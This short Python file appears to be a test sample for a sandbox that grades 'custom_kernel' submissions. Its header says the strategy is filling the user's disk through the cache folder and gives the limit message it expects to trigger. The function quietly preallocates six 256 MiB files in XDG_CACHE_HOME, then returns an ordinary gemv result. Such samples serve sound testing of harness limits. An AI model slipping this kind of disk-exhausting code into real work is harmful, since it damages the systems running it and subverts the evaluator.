# family: 35
# caught: not_judged.machine_limit: [\s\S]*it was stopped: its files took more than
# strategy: fill the user's disk through the folder of its own cache
# limit_gib: 1

import contextlib
import os
import time

from gemv import gemv


def custom_kernel(data):
    folder = os.environ["XDG_CACHE_HOME"]
    for number in range(6):
        with open(f"{folder}/{number}.bin", "wb") as file, contextlib.suppress(OSError):
            os.posix_fallocate(file.fileno(), 0, 256 << 20)
    time.sleep(2)
    return gemv(data)
